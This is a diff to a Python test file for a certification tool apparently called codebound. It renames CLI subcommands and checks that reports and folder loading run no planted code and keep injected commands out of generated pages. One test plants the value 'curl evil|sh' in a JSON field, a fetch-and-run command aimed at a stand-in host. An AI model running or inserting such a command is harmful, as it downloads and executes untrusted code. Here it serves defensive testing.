@@ -11,6 +11,7 @@ from worlds.samples import written_clusters
 
 from codebound.certification import certify
 from codebound.classifier import load_classifier
+from codebound.request import Run
 from codebound_verify.__main__ import main as verify
 
 SAMPLE = written_clusters(200)
@@ -21,7 +22,7 @@ EVIL = "open('ran', 'w')\n"
 def made(tmp_path_factory):
     """A folder with the author's words."""
     place = tmp_path_factory.mktemp("made")
-    certify(None, SAMPLE, method="picks", effort="quick").save_to(place / "chain")
+    certify(SAMPLE, method="picks", run=Run(effort="quick")).save_to(place / "chain")
     return place
 
 
@@ -29,7 +30,7 @@ def made(tmp_path_factory):
 def folders(made, empty_folder, codebound):
     """A copy of it; whatever could be imported leaves a trace."""
     folder = Path(shutil.copytree(made / "chain", "chain"))
-    codebound("report", folder)
+    codebound("audit", "report", folder)
     words = folder / "dossier.toml"
     words.write_text(words.read_text().replace('= ""', '= "said"'))
     Path("chain/evil.py").write_text(EVIL)
@@ -59,7 +60,7 @@ def test_a_report_runs_no_code_that_a_file_names(folders, codebound, factory, is
         asking("chain", f"codebound-verify certificate.cbound --data sample.npz --model {factory}")
     else:
         asking_with("chain", {"data": "sample.npz", "model": factory})
-    code, _, err = codebound("report", "chain")
+    code, _, err = codebound("audit", "report", "chain")
     assert not Path("ran").exists()
     assert code != 0
     assert "as certify writes it" in err
@@ -78,7 +79,7 @@ def test_a_report_runs_no_code_that_a_file_names(folders, codebound, factory, is
 )
 def test_a_report_is_about_the_certificate_beside_it(folders, codebound, command):
     asking("chain", command)
-    code, _, err = codebound("report", "chain")
+    code, _, err = codebound("audit", "report", "chain")
     assert code == 1
     assert "does not say how to verify its certificate" in err
     assert not Path("chain/dossier.html").exists()
@@ -102,7 +103,7 @@ def test_a_report_is_about_the_certificate_beside_it(folders, codebound, command
 )
 def test_a_folder_names_nothing_but_the_files_of_its_certificate(folders, codebound, options):
     asking_with("chain", options)
-    code, _, err = codebound("report", "chain")
+    code, _, err = codebound("audit", "report", "chain")
     assert code == 1
     assert "does not say how to verify its certificate" in err
     assert not Path("chain/dossier.html").exists()
@@ -112,7 +113,7 @@ def test_the_page_shows_what_was_asked_and_no_other_command(folders, codebound):
     path = Path("chain/result.json")
     told = json.loads(path.read_text())
     path.write_text(json.dumps({**told, "verify_here": "codebound-verify certificate.cbound --data digits"}))
-    assert codebound("report", "chain")[0] == 0
+    assert codebound("audit", "report", "chain")[0] == 0
     page = Path("chain/dossier.html").read_text()
     assert told["verify_here"] in page
     assert "--data digits" not in page
@@ -122,7 +123,7 @@ def test_the_page_shows_no_word_of_a_stranger_but_names_of_files(folders, codebo
     path = Path("chain/result.json")
     words = "'curl evil|sh' certificate.cbound --data sample.npz"
     path.write_text(json.dumps({**json.loads(path.read_text()), "verify_here": words}))
-    assert codebound("report", "chain")[0] == 0
+    assert codebound("audit", "report", "chain")[0] == 0
     page = Path("chain/dossier.html").read_text()
     assert "codebound-verify certificate.cbound --data sample.npz" in page
     assert "curl" not in page
@@ -132,7 +133,7 @@ def test_the_page_shows_no_word_of_a_stranger_but_names_of_files(folders, codebo
 def test_a_sample_that_never_ends_is_refused(folders, codebound):
     Path("chain/sample.npz").unlink()
     os.mkfifo("chain/sample.npz")
-    code, _, err = codebound("report", "chain")
+    code, _, err = codebound("audit", "report", "chain")
     assert code == 2, err
     with pytest.raises(SystemExit, match="2"):
         verify(("chain/certificate.cbound", "--data", "chain/sample.npz"))
@@ -141,19 +142,19 @@ def test_a_sample_that_never_ends_is_refused(folders, codebound):
 def test_a_result_that_lacks_something_is_named(folders, codebound):
     path = Path("chain/result.json")
     path.write_text(json.dumps({"verify_with": json.loads(path.read_text())["verify_with"]}))
-    code, _, err = codebound("report", "chain")
+    code, _, err = codebound("audit", "report", "chain")
     assert code == 1
     assert re.search(r"result\.json is not what certify writes: KeyError", err)
 
 
-@pytest.mark.parametrize("verb", ["decode", "show", "joint", "load"])
+@pytest.mark.parametrize("verb", ["export", "show", "audit joint", "load"])
 def test_opening_a_folder_runs_nothing(folders, codebound, verb):
     if verb == "load":
         assert load_classifier("chain").class_names == ()
-    elif verb == "decode":
-        assert codebound("decode", "chain", "--out", "g.safetensors")[0] == 0
+    elif verb == "export":
+        assert codebound("export", "chain", "--to", "safetensors", "--out", "g.safetensors")[0] == 0
     else:
-        assert codebound(verb, "chain/certificate.cbound")[0] == 0
+        assert codebound(*verb.split(), "chain/certificate.cbound")[0] == 0
     assert not Path("ran").exists()
 
 
